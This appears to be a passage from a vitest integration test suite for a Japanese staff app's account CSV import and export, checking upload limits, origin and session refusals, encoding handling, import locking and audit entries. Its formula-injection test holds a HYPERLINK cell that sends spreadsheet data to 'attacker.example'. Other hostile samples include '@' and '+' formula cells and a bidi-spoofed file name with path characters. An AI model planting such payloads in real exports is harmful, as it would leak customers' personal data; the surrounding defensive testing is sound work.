// 「アカウントの取り込み」 and 「アカウントの書き出し」 (issue 18 §4) against the real app behind its
// loopback HTTP transport: the upload route (its own size limit, role, origin, session), the
// import slot in the main process (preview, dry run, progress, one at a time, found again from
// another session), the rejected rows and the export streamed on the download route, and the
// round trips export → import in UTF-8 and Shift_JIS.
import { spawn } from 'node:child_process';
import { createReadStream, readdirSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { request as httpRequest } from 'node:http';
import { PassThrough, Readable } from 'node:stream';
import iconv from 'iconv-lite';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { ImportJobView } from '../../../src-main/contract/account-file-calls';
import { importCommand } from '../../../src-main/app/import-cli';
import { forStaff } from '../../../src-main/domain/staff-masking';
import { CSV_HEADER, accountCsvRow } from '../../support/account-csv';
import { makeTempDir, type TempDir } from '../../support/temp-dir';
import { startHttpApp, type HttpApp, type Visitor } from '../support/http-app';
import { manualClock, startTestApp } from '../support/test-app';
import { SLOT_REJECTS_MAX_ROWS, createImportJobs } from '../../../src-main/services/account-files/import-jobs';
import { importLock } from '../../../src-main/services/account-files/import-lock';

const importLockHolder = (dataDir: string) => importLock(dataDir).holder();
import { ADMIN_PASSWORD, STAFF_PASSWORD, readyAdmin } from './staff-support';

const MAX_BYTES = 4 * 1024 * 1024;

let dir: TempDir;
let web: HttpApp;
let admin: Visitor;
let supervisor: Visitor;

/**
 * A run's file can be held after its first `holdAfter` bytes until `release()`: the test then
 * sees the run part-way, as a person would, without depending on how fast the machine is.
 */
const hold = { after: Infinity, release: () => undefined as void, passed: Promise.resolve() };
function heldFile(path: string): Readable {
  const out = new PassThrough();
  const limit = hold.after;
  const rest = hold.passed;
  let sent = 0;
  const source = createReadStream(path, { highWaterMark: 16 * 1024 });
  source.on('data', (data: string | Buffer) => {
    const chunk = Buffer.from(data);
    const room = limit - sent;
    if (room >= chunk.length) {
      sent += chunk.length;
      out.write(chunk);
      return;
    }
    source.pause();
    if (room > 0) out.write(chunk.subarray(0, room));
    sent = limit;
    void rest.then(() => {
      out.write(chunk.subarray(Math.max(0, room)));
      source.removeAllListeners('data');
      source.pipe(out);
    });
  });
  source.on('end', () => sent < limit && out.end());
  out.on('close', () => source.destroy());
  return out;
}

async function ok<T>(v: Visitor, name: string, body: unknown): Promise<T> {
  const answer = await v.call(name, body);
  if (!answer.result.ok) throw new Error(`${name}: ${answer.text}`);
  return answer.result.value as T;
}

async function refusal(v: Visitor, name: string, body: unknown): Promise<{ code: string; params?: Record<string, unknown> }> {
  const answer = await v.call(name, body);
  expect(answer.result.ok, `${name} must be refused`).toBe(false);
  return (answer.result as { ok: false; error: { code: string; params?: Record<string, unknown> } }).error;
}

function post(path: string, body: Buffer | undefined, headers: Record<string, string>, chunked = false): Promise<{ status: number; text: string }> {
  const url = new URL(path, web.base);
  return new Promise((resolve, reject) => {
    const req = httpRequest(
      { host: url.hostname, port: url.port, path: url.pathname, method: 'POST', headers: { ...(chunked ? {} : { 'Content-Length': String(body?.length ?? 0) }), ...headers } },
      (res) => {
        let text = '';
        res.setEncoding('utf8');
        res.on('data', (c: string) => (text += c));
        res.on('end', () => resolve({ status: res.statusCode ?? 0, text }));
      },
    );
    req.on('error', reject);
    if (chunked && body) {
      for (let at = 0; at < body.length; at += 64 * 1024) req.write(body.subarray(at, at + 64 * 1024));
      req.end();
    } else req.end(body);
  });
}

/** Only the request's head, then its answer: a refusal that must come before any body is sent. */
function headersOnly(path: string, headers: Record<string, string>): Promise<{ status: number; text: string }> {
  const url = new URL(path, web.base);
  return new Promise((resolve, reject) => {
    const req = httpRequest({ host: url.hostname, port: url.port, path: url.pathname, method: 'POST', headers }, (res) => {
      let text = '';
      res.setEncoding('utf8');
      res.on('data', (c: string) => (text += c));
      res.on('end', () => {
        resolve({ status: res.statusCode ?? 0, text });
        req.destroy();
      });
    });
    req.on('error', reject);
    req.flushHeaders();
  });
}

const uploadHeaders = (v: Visitor) => ({ Origin: web.base, 'X-Webdesk-Request': '1', Cookie: v.cookie, 'Content-Type': 'application/octet-stream' });

/** The screen's way: a ticket from the call, then the bytes on the upload route. */
async function upload(v: Visitor, name: string, bytes: Buffer): Promise<ImportJobView> {
  const { ticket } = await ok<{ ticket: string }>(v, 'accounts.import.beginUpload', { fileName: name, bytes: bytes.length });
  const res = await post(`/api/upload/${ticket}`, bytes, uploadHeaders(v));
  const body = JSON.parse(res.text) as { ok: boolean; value: ImportJobView; error?: unknown };
  if (!body.ok) throw new Error(`upload: ${res.text}`);
  return body.value;
}

/** Polls the slot as the screen does until the run is over; returns every state seen. */
async function finished(v: Visitor): Promise<{ job: ImportJobView; seen: Array<NonNullable<ImportJobView['run']>> }> {
  const seen: Array<NonNullable<ImportJobView['run']>> = [];
  for (;;) {
    const job = await ok<ImportJobView>(v, 'accounts.import.status', {});
    seen.push({ ...job.run! });
    if (job.run?.state !== 'running') return { job, seen };
    await new Promise((r) => setTimeout(r, 20));
  }
}

async function runAndWait(v: Visitor, dryRun: boolean, locale: 'ja' | 'en' = 'ja') {
  await ok(v, 'accounts.import.run', { dryRun, locale });
  return finished(v);
}

async function download(v: Visitor, ticket: string, headers: Record<string, string> = {}): Promise<{ status: number; bytes: Buffer; type: string | null; disposition: string | null }> {
  const res = await fetch(`${web.base}/api/download/${ticket}`, { headers: { Cookie: v.cookie, ...headers } });
  return { status: res.status, bytes: Buffer.from(await res.arrayBuffer()), type: res.headers.get('content-type'), disposition: res.headers.get('content-disposition') };
}

const csv = (lines: string[]) => `${lines.join('\r\n')}\r\n`;

beforeAll(async () => {
  dir = await makeTempDir();
  web = await startHttpApp(dir.path, { importMaxBytes: MAX_BYTES, importOpenFile: heldFile });
  admin = await web.visitor();
  const first = web.app.firstAdmin!.password;
  await ok(admin, 'staff.login', { username: 'admin', password: first });
  await ok(admin, 'staff.changePassword', { current: first, next: ADMIN_PASSWORD, confirm: ADMIN_PASSWORD });
  const { oneTimePassword } = await ok<{ oneTimePassword: string }>(admin, 'staff.users.create', { username: 'suzuki', displayName: '鈴木 責任者', role: 'supervisor' });
  supervisor = await web.visitor();
  await ok(supervisor, 'staff.login', { username: 'suzuki', password: oneTimePassword });
  await ok(supervisor, 'staff.changePassword', { current: oneTimePassword, next: STAFF_PASSWORD, confirm: STAFF_PASSWORD });
}, 120_000);

afterAll(async () => {
  await web?.close();
  await dir?.remove();
});

describe('the upload route', () => {
  it('takes a Shift_JIS file and shows its encoding and first rows under their columns', async () => {
    const bytes = iconv.encode(csv([CSV_HEADER, '12000000001,sato@example.jp,髙橋 一郎,株式会社﨑山,総務部,東京都港区芝1-1,03-1111-2222']), 'cp932');
    const job = await upload(admin, '取引先.csv', bytes);
    expect(job.file).toMatchObject({ name: '取引先.csv', bytes: bytes.length, encoding: 'shift_jis', missingColumns: [], chosenBy: '管理者', chosenByUser: 'admin' });
    expect(job.file!.columns).toEqual(CSV_HEADER.split(','));
    // JSA-ID and address masked by the staff screens' one rule before they leave the main process.
    expect(job.file!.rows).toEqual([[forStaff('jsaId', '12000000001'), forStaff('email', 'sato@example.jp'), '髙橋 一郎', '株式会社﨑山', '総務部', '東京都港区芝1-1', '03-1111-2222']]);
    expect(job.file!.rows[0]![0]).toBe('•••••••0001');
  });

  it('refuses a file over its own limit, whether announced, declared on the request, or only counted as it streams', async () => {
    expect(await refusal(admin, 'accounts.import.beginUpload', { fileName: 'big.csv', bytes: MAX_BYTES + 1 })).toMatchObject({ code: 'BODY_TOO_LARGE', params: { maxBytes: MAX_BYTES } });
    const tooLarge = { ok: false, error: { code: 'BODY_TOO_LARGE', params: { maxBytes: MAX_BYTES } } };
    // The ticket asked for 10 bytes; the request declares more than the limit: refused before a byte is read.
    let { ticket } = await ok<{ ticket: string }>(admin, 'accounts.import.beginUpload', { fileName: 'big.csv', bytes: 10 });
    const declared = await headersOnly(`/api/upload/${ticket}`, { ...uploadHeaders(admin), 'Content-Length': String(MAX_BYTES + 1) });
    expect(declared.status).toBe(413);
    expect(JSON.parse(declared.text)).toEqual(tooLarge);
    // No length at all (chunked): counted as it comes, refused past the limit, the answer still read.
    ({ ticket } = await ok<{ ticket: string }>(admin, 'accounts.import.beginUpload', { fileName: 'big.csv', bytes: 10 }));
    const streamed = await post(`/api/upload/${ticket}`, Buffer.alloc(MAX_BYTES + 64 * 1024, 0x41), uploadHeaders(admin), true);
    expect(streamed.status).toBe(413);
    expect(JSON.parse(streamed.text)).toEqual(tooLarge);
    // Nothing of it was kept: the file chosen before is still the slot's.
    expect((await ok<ImportJobView>(admin, 'accounts.import.status', {})).file?.name).toBe('取引先.csv');
    // Bigger than the 64 KiB call body limit is fine for this route.
    const fine = Buffer.from(csv([CSV_HEADER, ...Array.from({ length: 3000 }, (_, i) => accountCsvRow(i + 1, { rows: 3000, prefix: '7' }))]));
    expect(fine.length).toBeGreaterThan(64 * 1024);
    expect((await upload(admin, 'fine.csv', fine)).file?.bytes).toBe(fine.length);
  });

  it('refuses a supervisor, another origin, a missing custom header, another session and a used ticket', async () => {
    expect(await refusal(supervisor, 'accounts.import.beginUpload', { fileName: 'x.csv', bytes: 10 })).toMatchObject({ code: 'FORBIDDEN', params: { role: 'admin' } });
    const body = Buffer.from(csv([CSV_HEADER]));
    const fresh = async () => (await ok<{ ticket: string }>(admin, 'accounts.import.beginUpload', { fileName: 'x.csv', bytes: body.length })).ticket;
    const answer = (res: { status: number; text: string }) => ({ status: res.status, code: (JSON.parse(res.text) as { error: { code: string } }).error.code });
    let ticket = await fresh();
    expect(answer(await post(`/api/upload/${ticket}`, body, { ...uploadHeaders(admin), Origin: 'http://evil.example' }))).toEqual({ status: 403, code: 'BAD_ORIGIN' });
    const { 'X-Webdesk-Request': _dropped, ...noHeader } = uploadHeaders(admin);
    expect(answer(await post(`/api/upload/${ticket}`, body, noHeader))).toEqual({ status: 403, code: 'BAD_ORIGIN' });
    // The supervisor's own (valid) session cannot spend the admin's ticket, and it stays the admin's.
    expect(answer(await post(`/api/upload/${ticket}`, body, uploadHeaders(supervisor)))).toEqual({ status: 404, code: 'NOT_FOUND' });
    const stranger = await web.visitor();
    expect(answer(await post(`/api/upload/${ticket}`, body, uploadHeaders(stranger)))).toEqual({ status: 404, code: 'NOT_FOUND' });
    expect(answer(await post(`/api/upload/${ticket}`, body, { ...uploadHeaders(admin), Cookie: '' }))).toEqual({ status: 401, code: 'UNAUTHENTICATED' });
    expect((await post(`/api/upload/${ticket}`, body, uploadHeaders(admin))).status).toBe(200);
    expect(answer(await post(`/api/upload/${ticket}`, body, uploadHeaders(admin)))).toEqual({ status: 404, code: 'NOT_FOUND' });
    ticket = await fresh();
    expect(answer(await post(`/api/upload/${ticket}`, body, { ...uploadHeaders(admin), Cookie: 'webdesk_sid=forged' }))).toEqual({ status: 401, code: 'UNAUTHENTICATED' });
  });

  it('reads odd bytes without breaking: NUL, UTF-8 surrogate bytes, broken Shift_JIS, an empty file, a header alone', async () => {
    const nul = Buffer.from(csv([CSV_HEADER, '12000000011,nul@example.jp,田中\u0000一郎,会社,部,住所,03-1234-5678']));
    let job = await upload(admin, 'nul.csv', nul);
    expect(job.file!.rows[0]![2]).toBe('田中\u0000一郎');
    let { job: after } = await runAndWait(admin, true);
    expect(after.run).toMatchObject({ state: 'done', rows: 1 });
    expect(after.run!.inserted + after.run!.rejected).toBe(1);

    // ED A0 80 is a UTF-16 surrogate written as UTF-8: not a character; it reads as U+FFFD, never
    // crashes, and the row is refused in words (it used to be stored with U+FFFD in the name).
    const surrogate = Buffer.concat([Buffer.from(`${CSV_HEADER}\r\n12000000012,sur@example.jp,`), Buffer.from([0xed, 0xa0, 0x80]), Buffer.from(',会社,部,住所,03\r\n')]);
    job = await upload(admin, 'surrogate.csv', surrogate);
    expect(job.file!.rows[0]![2]).not.toMatch(/[\uD800-\uDFFF]/);
    ({ job: after } = await runAndWait(admin, true));
    expect(after.run).toMatchObject({ state: 'done', rows: 1, inserted: 0, rejected: 1 });
    expect(after.run!.problems).toEqual([{ line: 2, issues: [{ code: 'import.undecodable', params: { columns: 'contact_name' } }] }]);

    // A Shift_JIS lead byte with no valid trail byte, in a file that is plainly not UTF-8.
    const brokenSjis = Buffer.concat([iconv.encode(`${CSV_HEADER}\r\n12000000013,sj@example.jp,髙橋,`, 'cp932'), Buffer.from([0x81, 0x20]), iconv.encode(',部,住所,03\r\n', 'cp932')]);
    job = await upload(admin, 'broken-sjis.csv', brokenSjis);
    expect(job.file!.encoding).toBe('shift_jis');
    ({ job: after } = await runAndWait(admin, true));
    expect(after.run).toMatchObject({ state: 'done', rows: 1 });

    // Excel's 「Unicode テキスト」: the screen says UTF-16 before the run, the run says it on line 1.
    job = await upload(admin, 'unicode.csv', Buffer.concat([Buffer.from([0xff, 0xfe]), iconv.encode(csv([CSV_HEADER, '12000000014,u16@example.jp,田中,会社,部,住所,03']), 'utf-16le')]));
    expect(job.file).toMatchObject({ utf16: true, encoding: null, columns: [], rows: [] });
    ({ job: after } = await runAndWait(admin, true));
    expect(after.run).toMatchObject({ state: 'done', rows: 0, rejected: 1, stopped: true });
    expect(after.run!.problems).toEqual([{ line: 1, issues: [{ code: 'import.utf16' }] }]);

    job = await upload(admin, 'empty.csv', Buffer.alloc(0));
    expect(job.file).toMatchObject({ bytes: 0, columns: [], rows: [] });
    expect(job.file!.missingColumns).toHaveLength(7);
    ({ job: after } = await runAndWait(admin, true));
    expect(after.run).toMatchObject({ state: 'done', rows: 0, rejected: 1, stopped: true });
    expect(after.run!.problems).toEqual([{ line: 1, issues: [{ code: 'import.empty' }] }]);

    job = await upload(admin, 'header.csv', Buffer.from(`\uFEFF${CSV_HEADER}\r\n`));
    expect(job.file).toMatchObject({ encoding: 'utf-8', columns: CSV_HEADER.split(','), rows: [], missingColumns: [] });
    ({ job: after } = await runAndWait(admin, false));
    expect(after.run).toMatchObject({ state: 'done', rows: 0, inserted: 0, rejected: 0 });
  });
});

describe('a slot treated roughly', () => {
  const importsDir = () => join(dir.path, 'data', 'imports');

  it('forgets a staged file removed behind its back, and stays free for the next file', async () => {
    await upload(admin, 'gone.csv', Buffer.from(csv([CSV_HEADER, '12700000001,gone@example.jp,名前,会社,部,住所,03'])));
    for (const name of readdirSync(importsDir())) if (!name.endsWith('.rejects.csv')) rmSync(join(importsDir(), name));
    expect(await refusal(admin, 'accounts.import.run', { dryRun: true, locale: 'ja' })).toMatchObject({ code: 'NOT_FOUND', params: { reason: 'no-file' } });
    const job = await ok<ImportJobView>(admin, 'accounts.import.status', {});
    expect(job.file).toBeNull();
    expect(job.run?.state).not.toBe('running');
    // It used to stay "running" for good: every upload and run refused until a restart.
    await upload(admin, 'next.csv', Buffer.from(csv([CSV_HEADER, '12700000002,next@example.jp,名前,会社,部,住所,03'])));
    expect((await runAndWait(admin, true)).job.run).toMatchObject({ state: 'done', rows: 1 });
  });

  it('shows and sends a clean file name: no lone surrogate, control, bidi or path characters', async () => {
    const job = await upload(admin, '\uD800請求書\u202Evsc.exe/..\\\u0000x\r\n.csv', Buffer.from(csv([CSV_HEADER, '1234,bad@example.jp,名前,会社,部,住所,03'])));
    expect(job.file!.name).toBe('請求書vsc.exe_.._x.csv');
    expect((await runAndWait(admin, true)).job.run).toMatchObject({ state: 'done', rejected: 1 });
    const { ticket } = await ok<{ ticket: string; fileName: string }>(admin, 'accounts.import.rejects', {});
    const got = await download(admin, ticket);
    // A lone surrogate in the name made the header throw: 500 and a spent ticket.
    expect(got.status).toBe(200);
    expect(got.disposition).toBe(`attachment; filename="___vsc.exe_.._x-rejected.csv"; filename*=UTF-8''${encodeURIComponent('請求書vsc.exe_.._x-rejected.csv')}`);
  });

  it('shows at most 50 columns of a file with thousands of them, and still finds its own columns among them', async () => {
    const extra = Array.from({ length: 10_000 }, (_, i) => `x${i}`).join(',');
    const job = await upload(admin, 'wide.csv', Buffer.from(`${extra},${CSV_HEADER}\n${','.repeat(10_000)}12700000003,wide@example.jp,名前,会社,部,住所,03\n`));
    expect(job.file!.columns).toHaveLength(50);
    expect(job.file!.rows[0]).toHaveLength(50);
    expect(job.file!.missingColumns).toEqual([]);
  });

  it('keeps the first 100,000 rejected rows in its file and says how many more there were', async () => {
    const bytes = Buffer.from(`${CSV_HEADER}\n${'1\n'.repeat(SLOT_REJECTS_MAX_ROWS + 5)}`);
    await upload(admin, 'not-accounts.csv', bytes);
    expect((await runAndWait(admin, true)).job.run).toMatchObject({ state: 'done', rows: SLOT_REJECTS_MAX_ROWS + 5, rejected: SLOT_REJECTS_MAX_ROWS + 5 });
    const { ticket } = await ok<{ ticket: string }>(admin, 'accounts.import.rejects', {});
    const lines = (await download(admin, ticket)).bytes.toString('utf8').trimEnd().split('\r\n');
    expect(lines).toHaveLength(1 + SLOT_REJECTS_MAX_ROWS + 1);
    expect(lines.at(-1)).toBe('"","ほかに 5 行が取り込めませんでした（このファイルには最初の 100,000 行だけを書いています）。"');
  }, 120_000);
});

describe('the import run in the main process', () => {
  it('shows progress, runs one at a time, is found again from a new session, and keeps the rejected rows', async () => {
    const rows = 12_000;
    const lines = [CSV_HEADER, ...Array.from({ length: rows }, (_, i) => accountCsvRow(i + 1, { rows, prefix: '6', badEvery: 1000 }))];
    const bytes = iconv.encode(csv(lines), 'cp932');
    await upload(admin, 'many.csv', bytes);
    hold.after = Math.floor(bytes.length * 0.6);
    hold.passed = new Promise((resolve) => (hold.release = resolve));
    const started = await ok<ImportJobView>(admin, 'accounts.import.run', { dryRun: false, locale: 'ja' });
    expect(started.run).toMatchObject({ kind: 'import', state: 'running', by: '管理者', byUser: 'admin' });
    // Part-way: the first 60 % is read and its batches are being written; the rest waits.
    let partway = started;
    while (partway.run!.rows < 6000) partway = await ok<ImportJobView>(admin, 'accounts.import.status', {});
    expect(partway.run).toMatchObject({ state: 'running', totalBytes: bytes.length });
    expect(partway.run!.bytes).toBeLessThan(bytes.length);
    // Written and refused rows trail the rows read by at most the batch being written.
    expect(partway.run!.inserted + partway.run!.rejected).toBeGreaterThan(0);
    expect(partway.run!.inserted + partway.run!.rejected).toBeLessThanOrEqual(partway.run!.rows);
    // One at a time: a second run, a new file, or throwing the file away are refused in words.
    for (const [name, input] of [
      ['accounts.import.run', { dryRun: true, locale: 'ja' }],
      ['accounts.import.beginUpload', { fileName: 'other.csv', bytes: 10 }],
      ['accounts.import.discard', {}],
    ] as const) {
      expect(await refusal(admin, name, input)).toEqual({ code: 'CONFLICT', params: { reason: 'import-running', by: '管理者', byUser: 'admin', since: started.run!.startedAt } });
    }
    // Leaving the screen (or the browser) and coming back: another session of the admin finds the same run.
    const again = await web.visitor();
    await ok(again, 'staff.login', { username: 'admin', password: ADMIN_PASSWORD });
    const seenAgain = await ok<ImportJobView>(again, 'accounts.import.status', {});
    expect(seenAgain.run).toMatchObject({ state: 'running', startedAt: started.run!.startedAt });
    expect(seenAgain.run!.rows).toBeGreaterThanOrEqual(partway.run!.rows);
    hold.release();
    hold.after = Infinity;
    hold.passed = Promise.resolve();
    const { job, seen } = await finished(again);
    const progress = seen.map((s) => s.bytes);
    expect([...progress].sort((a, b) => a - b)).toEqual(progress);
    expect(job.run).toMatchObject({ state: 'done', rows, rejected: rows / 1000, inserted: rows - rows / 1000, bytes: bytes.length });
    expect(job.run!.problems[0]).toMatchObject({ line: 1001, issues: [{ column: 'jsa_id', code: 'jsaId.length' }] });

    const { ticket, fileName } = await ok<{ ticket: string; fileName: string }>(admin, 'accounts.import.rejects', {});
    expect(fileName).toBe('many-rejected.csv');
    expect((await download(supervisor, ticket)).status).toBe(404);
    expect((await download(admin, ticket, { 'Sec-Fetch-Site': 'cross-site' })).status).toBe(403);
    const got = await download(admin, ticket);
    expect(got.status).toBe(200);
    expect(got.disposition).toContain("filename*=UTF-8''many-rejected.csv");
    const text = got.bytes.toString('utf8');
    expect(text.startsWith('\uFEFF"line","reason","jsa_id"')).toBe(true);
    const first = text.split('\r\n')[1]!;
    expect(first).toContain('"1001","JSA-ID は 11 桁です。いま 4 桁入力されています。","1234"');
    expect(text.trimEnd().split('\r\n')).toHaveLength(1 + rows / 1000);
    expect((await download(admin, ticket)).status).toBe(404);
    // The download's entry is committed before its first byte: there once the file has come.
    const audit = (await web.app.db('audit_log').whereIn('action', ['accounts.imported', 'accounts.import-rejects-exported']).orderBy('seq').select('action', 'detail_json')) as Array<{ action: string; detail_json: string }>;
    expect(audit.map((a) => a.action).slice(-2)).toEqual(['accounts.imported', 'accounts.import-rejects-exported']);
    expect(JSON.parse(audit.at(-2)!.detail_json)).toMatchObject({ file: 'many.csv', rows, rejected: rows / 1000, encoding: 'shift_jis' });
  });
});

describe('a download and its audit entry', () => {
  const exportedCount = async () => Number(((await web.app.db('audit_log').whereIn('action', ['accounts.exported', 'accounts.import-rejects-exported']).count({ n: '*' })) as Array<{ n: number }>)[0]!.n);
  const refusedInWords = { ok: false, error: { code: 'UNAVAILABLE', params: { reason: 'audit-unwritable' } } };
  const pageHeaders = (v: Visitor) => ({ Origin: web.base, 'X-Webdesk-Request': '1', Cookie: v.cookie });

  it('sends no byte of the file and says why in words when the entry cannot be written, over the link and to the page', async () => {
    // The audit log refusing its write as a full disk does (SQLITE_FULL); the store has one
    // connection, so this temporary trigger stands in front of every write of the entry.
    await web.app.db.raw("CREATE TEMP TRIGGER audit_disk_full BEFORE INSERT ON main.audit_log BEGIN SELECT RAISE(ABORT, 'database or disk is full'); END");
    const before = await exportedCount();
    try {
      const exportTicket = await ok<{ ticket: string }>(supervisor, 'accounts.export.begin', { encoding: 'utf-8', personalDataConfirmed: true });
      const viaLink = await download(supervisor, exportTicket.ticket);
      expect(viaLink.status).toBe(503);
      expect(viaLink.type).toMatch(/^application\/json/);
      expect(JSON.parse(viaLink.bytes.toString('utf8'))).toEqual(refusedInWords);
      expect(viaLink.disposition).toBeNull();

      const rejectsTicket = await ok<{ ticket: string }>(admin, 'accounts.import.rejects', {});
      const viaPage = await post(`/api/download/${rejectsTicket.ticket}`, undefined, pageHeaders(admin));
      expect(JSON.parse(viaPage.text)).toEqual(refusedInWords);
      // A refused ticket is spent: the file does not leave later either.
      expect((await download(admin, rejectsTicket.ticket)).status).toBe(404);
    } finally {
      await web.app.db.raw('DROP TRIGGER audit_disk_full');
    }
    expect(await exportedCount()).toBe(before);
  });

  it('is committed before the first byte: there when the answer begins, and written once over the page\'s two steps', async () => {
    const before = await exportedCount();
    const begun = await ok<{ ticket: string }>(supervisor, 'accounts.export.begin', { encoding: 'utf-8', personalDataConfirmed: true });
    const res = await fetch(`${web.base}/api/download/${begun.ticket}`, { headers: { Cookie: supervisor.cookie } });
    expect(res.status).toBe(200);
    // Only the head has been read: the body is still unread on the socket.
    expect(await exportedCount()).toBe(before + 1);
    expect(Buffer.from(await res.arrayBuffer()).toString('utf8').startsWith(`\uFEFF${CSV_HEADER}`)).toBe(true);

    const again = await ok<{ ticket: string }>(supervisor, 'accounts.export.begin', { encoding: 'utf-8', personalDataConfirmed: true });
    const prepared = JSON.parse((await post(`/api/download/${again.ticket}`, undefined, pageHeaders(supervisor))).text) as { ok: true; value: { ticket: string } };
    expect(prepared.ok).toBe(true);
    expect(await exportedCount()).toBe(before + 2);
    const got = await download(supervisor, prepared.value.ticket);
    expect(got.status).toBe(200);
    expect(got.bytes.toString('utf8').startsWith(`\uFEFF${CSV_HEADER}`)).toBe(true);
    expect(await exportedCount()).toBe(before + 2);
    // The page's POST needs what a call needs: the custom header.
    const third = await ok<{ ticket: string }>(supervisor, 'accounts.export.begin', { encoding: 'utf-8', personalDataConfirmed: true });
    expect((await post(`/api/download/${third.ticket}`, undefined, { Origin: web.base, Cookie: supervisor.cookie })).status).toBe(403);
  });
});

describe('one import per counter, across processes', () => {
  it('starts exactly one of two runs asked for at the same moment, and takes exactly one of two files arriving at once', async () => {
    const body = Buffer.from(csv([CSV_HEADER, '12200000009,twice@example.jp,二重 太郎,会社,部,住所,03']));
    const tickets = await Promise.all([1, 2].map(async () => (await ok<{ ticket: string }>(admin, 'accounts.import.beginUpload', { fileName: 'twice.csv', bytes: body.length })).ticket));
    // The first file is still arriving (half sent) when the second comes.
    const first = httpRequest({ host: '127.0.0.1', port: new URL(web.base).port, path: `/api/upload/${tickets[0]}`, method: 'POST', headers: { ...uploadHeaders(admin), 'Content-Length': String(body.length) } });
    const firstAnswer = new Promise<{ status: number; text: string }>((resolve, reject) => {
      first.on('response', (res) => {
        let text = '';
        res.setEncoding('utf8');
        res.on('data', (c: string) => (text += c));
        res.on('end', () => resolve({ status: res.statusCode ?? 0, text }));
      });
      first.on('error', reject);
    });
    first.write(body.subarray(0, 10));
    // Wait until the first has reached the slot: a new upload is then refused.
    while ((await admin.call('accounts.import.beginUpload', { fileName: 'probe.csv', bytes: 1 })).result.ok);
    let second = await post(`/api/upload/${tickets[1]}`, body, uploadHeaders(admin));
    const secondError = () => (JSON.parse(second.text) as { error?: { code: string; params: { reason: string } } }).error;
    expect(secondError()).toMatchObject({ code: 'CONFLICT', params: { reason: 'file-arriving' } });
    first.end(body.subarray(10));
    expect((await firstAnswer).status).toBe(200);
    second = await post(`/api/upload/${tickets[1]}`, body, uploadHeaders(admin));
    expect(second.status).toBe(404);
    hold.after = 0;
    hold.passed = new Promise((resolve) => (hold.release = resolve));
    const runs = await Promise.all([admin.call('accounts.import.run', { dryRun: true, locale: 'ja' }), admin.call('accounts.import.run', { dryRun: false, locale: 'ja' })]);
    expect(runs.map((r) => (r.result.ok ? 'started' : (r.result as { error: { code: string } }).error.code)).sort()).toEqual(['CONFLICT', 'started']);
    hold.release();
    hold.after = Infinity;
    hold.passed = Promise.resolve();
    expect((await finished(admin)).job.run?.state).toBe('done');
  });

  it('refuses the screen while `npm run accounts:import` runs, and the command line while the screen imports', async () => {
    await upload(admin, 'lock.csv', Buffer.from(csv([CSV_HEADER, '12200000001,lock@example.jp,錠 太郎,会社,部,住所,03'])));
    // A command-line import in another (live) process holds the lock.
    const other = spawn(process.execPath, ['-e', 'setTimeout(() => {}, 60000)'], { stdio: 'ignore' });
    try {
      writeFileSync(join(web.app.config.dataDir, 'import.lock'), JSON.stringify({ pid: other.pid, by: 'cli', since: '2026-12-07T01:00:00.000Z' }));
      expect(await refusal(admin, 'accounts.import.run', { dryRun: false, locale: 'ja' })).toEqual({
        code: 'CONFLICT',
        params: { reason: 'import-running', by: 'cli', since: '2026-12-07T01:00:00.000Z' },
      });
    } finally {
      other.kill();
      await new Promise((resolve) => other.once('exit', resolve));
    }
    // Its process is gone: the lock is stale and the screen's import goes ahead.
    hold.after = 0;
    hold.passed = new Promise((resolve) => (hold.release = resolve));
    await ok(admin, 'accounts.import.run', { dryRun: false, locale: 'ja' });
    const file = join(dir.path, 'cli.csv');
    writeFileSync(file, csv([CSV_HEADER, '12200000002,cli@example.jp,錠 次郎,会社,部,住所,03']));
    expect(await importCommand(web.app.db, web.app.clock, [file], undefined, { dataDir: web.app.config.dataDir })).toBe(2);
    expect(await web.app.db('accounts').where({ jsa_id: '12200000002' }).first()).toBeUndefined();
    hold.release();
    hold.after = Infinity;
    hold.passed = Promise.resolve();
    expect((await finished(admin)).job.run).toMatchObject({ state: 'done', inserted: 1 });
    // Released at the end of the run: the command line may import now.
    expect(await importCommand(web.app.db, web.app.clock, [file], undefined, { dataDir: web.app.config.dataDir })).toBe(0);
    expect(await web.app.db('accounts').where({ jsa_id: '12200000002' }).first()).toBeDefined();
  });
});

describe('the export', () => {
  it('is for supervisors after the personal-data confirmation, audited, and re-imports with nothing changed (UTF-8 with BOM)', async () => {
    const agentless = await refusal(supervisor, 'accounts.export.begin', { encoding: 'utf-8', personalDataConfirmed: false });
    expect(agentless.code).toBe('INVALID_INPUT');
    const { accounts } = await ok<{ accounts: number }>(supervisor, 'accounts.export.summary', {});
    const begun = await ok<{ ticket: string; fileName: string; accounts: number }>(supervisor, 'accounts.export.begin', { encoding: 'utf-8', personalDataConfirmed: true });
    expect(begun.accounts).toBe(accounts);
    expect((await download(admin, begun.ticket)).status).toBe(404);
    const got = await download(supervisor, begun.ticket);
    expect(got.type).toBe('text/csv; charset=utf-8');
    const text = got.bytes.toString('utf8');
    expect(text.startsWith(`\uFEFF${CSV_HEADER}\r\n`)).toBe(true);
    expect(text.trimEnd().split('\r\n')).toHaveLength(1 + accounts);
    const exported = await web.app.db('audit_log').where({ action: 'accounts.exported' }).orderBy('seq', 'desc').first();
    expect(JSON.parse((exported as { detail_json: string }).detail_json)).toEqual({ encoding: 'utf-8', accounts });
    expect((exported as { actor: string }).actor).toMatch(/^staff:/);

    const before = await web.app.db('accounts').select('id', 'jsa_id', 'email', 'contact_name', 'company', 'department', 'address', 'phone', 'version').orderBy('jsa_id');
    await upload(admin, begun.fileName, got.bytes);
    const { job } = await runAndWait(admin, false);
    expect(job.run).toMatchObject({ state: 'done', rows: accounts, inserted: 0, updated: 0, unchanged: accounts, rejected: 0 });
    expect(await web.app.db('accounts').select('id', 'jsa_id', 'email', 'contact_name', 'company', 'department', 'address', 'phone', 'version').orderBy('jsa_id')).toEqual(before);
  });

  it('writes no cell a spreadsheet would run as a formula, and the guarded file re-imports unchanged', async () => {
    // Values a customer can type (company, name, address) shaped as formulas, a phone with +81,
    // a value that begins with an apostrophe before = (written guarded: ''=), and one with an
    // apostrophe only.
    const hostile = [
      // '@' in a department (a person's name refuses it, as the forms do: personNameField).
      `12400000001,"=cmd@example.jp",-,"=HYPERLINK(""https://attacker.example/""&D2&G2,""詳細"")","@SUM(A1:A9)","+81 3 1234 5678",+81 3 1234 5678`,
      `12400000002,apos@example.jp,"''=1+1",'80s 商会,"	総務部",東京都,-03-1234`,
      // Full-width forms, which the forms store as = + @ (NFKC), as typed on a screen.
